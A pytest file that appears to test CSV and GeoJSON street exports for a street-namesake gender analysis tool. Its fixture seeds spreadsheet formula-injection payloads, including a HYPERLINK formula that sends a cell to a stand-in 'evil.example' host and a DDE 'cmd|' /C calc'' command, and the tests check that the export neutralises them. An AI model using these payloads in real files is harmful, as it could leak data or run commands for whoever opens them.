"""Per-street CSV and GeoJSON downloads, from the web and from `whose-streets export`."""
from __future__ import annotations

import csv
import io
import json

import pytest
from click.testing import CliRunner

from app.domain import HIGH, LOW, MAN, UNKNOWN, WOMAN, Area, Decision, Namesake, Street
from app.exports import COLUMNS, STREETS, write_export
from app.store.records import AreaNotFound
from app.stats import headline
from app.store.records import find_or_create_area, save_run
from tests.sample_city import ROWS, XSS_NAME

HOSTILE = Area(osm_type="relation", osm_id=2002, name="Ñandú", admin_level=8, country_code="UY",
               languages=["es"], parent="Uruguay")
FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"click")'


def store_hostile_city(store) -> str:
    """A city whose data tries spreadsheet formulas, plus accents and an ancient namesake."""
    area = find_or_create_area(store, HOSTILE)
    namesakes = {
        "Q1": Namesake(qid="Q1", labels={"es": "@SUM(1+1)"}, gender="woman", gender_labels=["female"],
                     birth_year=-63, death_year=14, sitelinks=5, articles={"es": "https://es.wikipedia.org/wiki/X"}),
        "Q2": Namesake(qid="Q2", labels={"es": "José Ñúñez"}, gender="man", gender_labels=["male"], birth_year=1900),
    }
    rows = [
        (1, FORMULA, Decision(UNKNOWN, None, LOW, [])),
        (2, "+cmd|' /C calc'!A0", Decision(UNKNOWN, None, LOW, [])),
        (3, "-2+3", Decision(UNKNOWN, None, LOW, [])),
        (4, "Calle Augusta", Decision(WOMAN, "osm_tag", HIGH, ["Q1"])),
        (5, "Camiño José Ñúñez", Decision(MAN, "name_match", HIGH, ["Q2"])),
        (6, "\tTabbed", Decision(UNKNOWN, None, LOW, [])),
    ]
    streets, decisions = [], {}
    for way, name, decision in rows:
        streets.append(Street(key=f"w{way}", name=name, osm_ids=[f"way/{way}"],
                              lines=[[(-56.1, -34.9), (-56.1 + way * 1e-3, -34.9)]], length_m=50.0 * way))
        decisions[f"w{way}"] = decision
    save_run(store, area.id, figures=headline, streets=streets, readings={}, decisions=decisions, namesakes=namesakes, conflicts={},
             source="overpass")
    return HOSTILE.slug


def parse_csv(data: bytes) -> list[dict]:
    assert data.startswith(b"\xef\xbb\xbf")
    text = data.decode("utf-8-sig")
    return list(csv.DictReader(io.StringIO(text, newline="")))


def test_csv_columns_bom_crlf_and_filename(client, sample_city):
    response = client.get(f"/cities/{sample_city}/streets.csv")
    assert response.status_code == 200
    assert response.mimetype == "text/csv"
    assert response.headers["Content-Disposition"] == f'attachment; filename="{sample_city}-streets.csv"'
    data = response.get_data()
    # Every cell quoted: no locale's list separator can split one.
    assert data.startswith(b'\xef\xbb\xbf"city","street_id","street_name","osm_ids","length_m","category","persons",')
    lines = data.split(b"\r\n")
    assert next(csv.reader([lines[0].decode("utf-8-sig")])) == list(COLUMNS)
    assert b"\n" not in data.replace(b"\r\n", b"")  # CRLF everywhere
    rows = parse_csv(data)
    assert len(rows) == len(ROWS)
    by_name = {r["street_name"]: r for r in rows}
    juana = by_name["Calle Juana de Ibarbourou"]
    assert juana == {
        "city": sample_city, "street_id": "w101", "street_name": "Calle Juana de Ibarbourou",
        "osm_ids": "way/101;way/102", "length_m": "100.0", "category": "woman", "persons": "Juana de Ibarbourou",
        "wikidata_ids": "Q900001", "genders": "female", "source": "osm_tag", "confidence": "high",
        "wikipedia_url": "https://es.wikipedia.org/wiki/Juana_de_Ibarbourou", "sitelinks": "30",
        "birth_year": "1892", "death_year": "1979", "reviewed": "no", "religious": "no",
    }
    mixed = by_name["Calle María y Pedro"]
    assert mixed["persons"] == "María Ejemplo;Pedro Ejemplo" and mixed["genders"] == "female;male"
    assert mixed["wikidata_ids"] == "Q900005;Q900006" and mixed["category"] == "several"
    assert by_name["Calle Laura Ramírez"]["persons"] == "Laura Ramírez"  # known from the name only
    assert by_name["Calle Delmira Agustini"]["wikipedia_url"] == ""  # no article in Spanish
    assert by_name[XSS_NAME]["category"] == "unknown"


def test_csv_neutralises_formulas_in_text_columns_only(client, store):
    slug = store_hostile_city(store)
    rows = {r["street_id"]: r for r in parse_csv(client.get(f"/cities/{slug}/streets.csv").get_data())}
    assert rows["w1"]["street_name"] == "'" + FORMULA
    assert rows["w2"]["street_name"].startswith("'+cmd")
    assert rows["w3"]["street_name"] == "'-2+3"
    assert rows["w6"]["street_name"] == "'\tTabbed"
    assert rows["w4"]["persons"] == "'@SUM(1+1)"
    # Genuine negative numbers stay numbers.
    assert rows["w4"]["birth_year"] == "-63" and rows["w4"]["death_year"] == "14"
    # Accents round-trip.
    assert rows["w5"]["street_name"] == "Camiño José Ñúñez" and rows["w5"]["persons"] == "José Ñúñez"
    assert rows["w5"]["city"] == slug and slug.startswith("nandu-")


def csv_cell(column: str, value) -> str:
    """The per-street table's cell of ``column`` holding ``value``."""
    return STREETS.csv_row({c.key: value if c.key == column else "" for c in STREETS.columns})[
        STREETS.keys.index(column)]


def test_csv_cell_rules():
    assert csv_cell("street_name", "=1+1") == "'=1+1"
    assert csv_cell("street_name", "Calle =") == "Calle ="
    assert csv_cell("birth_year", [-63]) == "-63"
    assert csv_cell("birth_year", [None, None]) == ""
    assert csv_cell("birth_year", [1900, None]) == "1900;"
    assert csv_cell("reviewed", True) == "yes"


def test_geojson_is_a_valid_feature_collection_with_the_same_properties(client, sample_city):
    response = client.get(f"/cities/{sample_city}/streets.geojson")
    assert response.status_code == 200
    assert response.headers["Content-Disposition"] == f'attachment; filename="{sample_city}-streets.geojson"'
    data = json.loads(response.get_data(as_text=True))
    assert data["type"] == "FeatureCollection"
    assert "OpenStreetMap contributors" in data["attribution"] and "ODbL" in data["attribution"]
    assert len(data["features"]) == len(ROWS)
    for feature in data["features"]:
        assert feature["type"] == "Feature"
        assert list(feature["properties"]) == list(COLUMNS)
        geometry = feature["geometry"]
        assert geometry["type"] == "MultiLineString"
        assert all(len(line) >= 2 and all(len(p) == 2 for p in line) for line in geometry["coordinates"])
    juana = next(f for f in data["features"] if f["id"] == "w101")["properties"]
    assert juana["wikidata_ids"] == ["Q900001"] and juana["birth_year"] == [1892] and juana["reviewed"] is False


def test_write_export_streams_and_refuses_unknown_cities(store, sample_city):
    out = io.StringIO(newline="")
    write_export(store, sample_city, "csv", out)
    assert out.getvalue().count("\r\n") == len(ROWS) + 1
    with pytest.raises(AreaNotFound):
        write_export(store, "nowhere-1", "csv", io.StringIO())


def test_export_handles_many_streets_in_batches(store, sample_city, monkeypatch):
    import app.exports as exports

    monkeypatch.setattr(exports, "BATCH", 4)
    out = io.StringIO(newline="")
    exports.write_export(store, sample_city, "csv", out)
    rows = list(csv.DictReader(io.StringIO(out.getvalue().lstrip("\ufeff"))))
    # Two streets share the name "Calle Rivera": keyset paging must keep both.
    assert len(rows) == len(ROWS) and len({r["street_id"] for r in rows}) == len(ROWS)
    assert [r["street_name"] for r in rows] == sorted(r["street_name"] for r in rows)




def cli_store(env):
    from app.config import load_settings
    from app.store import Store

    store = Store(load_settings(env["INSTANCE_PATH"], env=env).database_url)
    store.upgrade()
    return store


def test_cli_export_csv_and_geojson(cli_env, tmp_path):
    from app.cli import main
    from tests.sample_city import AREA, store_sample_city

    store = cli_store(cli_env)
    store_sample_city(store)
    store.dispose()
    target = tmp_path / "out.csv"
    result = CliRunner().invoke(main, ["export", AREA.slug, "--format", "csv", "-o", str(target)])
    assert result.exit_code == 0, result.output
    rows = parse_csv(target.read_bytes())
    assert len(rows) == len(ROWS) and rows[0].keys() == set(COLUMNS)
    assert b"\r\n" in target.read_bytes()

    result = CliRunner().invoke(main, ["export", AREA.slug, "--format", "geojson"])
    assert result.exit_code == 0, result.output
    assert len(json.loads(result.output)["features"]) == len(ROWS)

    result = CliRunner().invoke(main, ["export", "nowhere-1"])
    assert result.exit_code != 0 and "no analysed city" in result.output


def test_every_part_of_a_list_cell_is_neutralised():
    from app.tables import neutralise

    assert neutralise("Ana;=1+1") == "Ana;'=1+1"
    assert neutralise("Calle;=cmd|' /C calc'!A0") == "Calle;'=cmd|' /C calc'!A0"
    assert csv_cell("persons", ["Ana", "@SUM(A1)"]) == "Ana;'@SUM(A1)"
    assert neutralise("Ana;Pedro") == "Ana;Pedro"
